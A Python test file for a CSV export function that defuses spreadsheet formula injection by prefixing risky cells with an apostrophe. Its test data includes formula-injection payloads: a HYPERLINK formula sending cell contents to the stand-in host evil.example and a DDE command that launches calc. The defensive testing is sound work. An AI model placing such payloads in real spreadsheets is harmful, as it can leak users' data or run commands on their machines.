"""CSV exports whose cells a spreadsheet can never run as formulas, read back by the csv module."""
import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop_app.formats.spreadsheet_safe import neutralise_cell, write_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-A1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "+44 20 7946 0958",
    "-12.5 ",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_starts_get_an_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e6", ".5", "-0.25E-3", "42", -7, 3.5])
def test_plain_numbers_stay_numbers(value):
    assert neutralise_cell(value) == str(value)


@pytest.mark.parametrize("value", ["Erdoğan", "Київ", "'already text", " =padded", "", "a=b"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise_cell(value) == value


def test_none_is_an_empty_cell():
    assert neutralise_cell(None) == ""


def test_unicode_digits_are_no_plain_number():
    assert neutralise_cell("-٣") == "'-٣"


def test_write_csv_to_a_path_reads_back_neutralised(tmp_path):
    path = tmp_path / "events.csv"
    header = ["date", "=title", "amount"]
    rows = [
        ["2024-11-19", "Talks in Kyiv, «no result»", "-12.5"],
        ["2024-11-20", '=HYPERLINK("http://evil.example")', "@SUM(C1:C2)"],
        ["2024-11-21", 'Line one\nline two, "quoted"', None],
    ]
    write_csv(path, header, rows)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as file:
        read_back = list(csv.reader(file))
    assert read_back == [
        ["date", "'=title", "amount"],
        ["2024-11-19", "Talks in Kyiv, «no result»", "-12.5"],
        ["2024-11-20", '\'=HYPERLINK("http://evil.example")', "'@SUM(C1:C2)"],
        ["2024-11-21", 'Line one\nline two, "quoted"', ""],
    ]


def test_write_csv_to_an_open_file():
    buffer = io.StringIO(newline="")
    write_csv(buffer, ["name"], [["-Doe"], ["Doe"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["name"], ["'-Doe"], ["Doe"]]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_cell_read_back_can_start_a_formula(value):
    buffer = io.StringIO(newline="")
    write_csv(buffer, ["cell"], [[value]])
    (cell,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[1]
    assert cell in (value, "'" + value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")):
        assert float(cell) == float(value)  # only a plain number may keep its sign
